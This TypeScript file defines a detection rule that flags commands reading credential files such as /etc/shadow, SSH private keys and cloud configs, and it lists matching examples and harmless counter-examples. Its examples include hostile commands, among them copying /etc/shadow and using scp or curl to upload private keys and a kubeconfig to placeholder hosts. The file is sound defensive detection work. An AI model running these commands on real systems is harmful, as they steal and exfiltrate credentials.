import type { RuleWithExamples } from './rule-with-examples.ts';

export const credentialsRead: RuleWithExamples = {
  rule: {
    title: 'A file of credentials is read',
    id: 'credentials-read',
    description: 'What it holds opens other doors, and must be changed when this was not wanted.',
    level: 'high',
    detection: {
      file: {
        'CommandLine|contains': ['/etc/shadow', '/etc/gshadow', '/etc/krb5.keytab', '/.aws/credentials', '/.ssh/id_', '/.git-credentials', '/.pgpass', '/.netrc', '/.docker/config.json', '/.kube/config', '/etc/ssl/private/', '/etc/ssh/ssh_host_', '/.vault-token', '/.config/gcloud/', '/proc/self/environ', '/var/lib/sss/db', '/etc/security/opasswd'],
      },
      read: {
        'CommandLine|re': '(?:^|[\\s;|&/(`])(?:cat|less|more|head|tail|nl|tac|cp|scp|rsync|base64|base32|xxd|od|hexdump|strings|tar|zip|gzip|curl|wget|nc|vi|vim|view|nano|emacs|grep|awk|sed|cut|sort|dd|mv|python[0-9.]{0,4}|perl|john|hashcat)\\s',
      },
      public: {
        'CommandLine|re': '\\.pub(?:\\s|$)',
      },
      database: {
        'CommandLine|re': '(?:^|[\\s;|&/(`])(?:getent\\s{1,8}g?shadow|unshadow\\s|mimipenguin)',
      },
      condition: '(file and read and not public) or database',
    },
  },
  examples: [
    'cat /etc/shadow',
    ['cp', '/etc/shadow', '/tmp/s'],
    'tar czf x.tgz /root/.ssh/id_ed25519',
    'base64 ~/.aws/credentials',
    'getent shadow',
    'scp ~/.ssh/id_rsa eve@192.0.2.1:',
    'curl -F f=@/home/ada/.kube/config https://example.com/',
  ],
  counterExamples: [
    'ls -l /etc/shadow',
    'cat ~/.ssh/id_ed25519.pub',
    'cat /etc/passwd',
    'ssh -i ~/.ssh/id_ed25519 web-1',
    'chmod 600 /home/ada/.ssh/id_rsa',
    'stat /etc/gshadow',
  ],
};
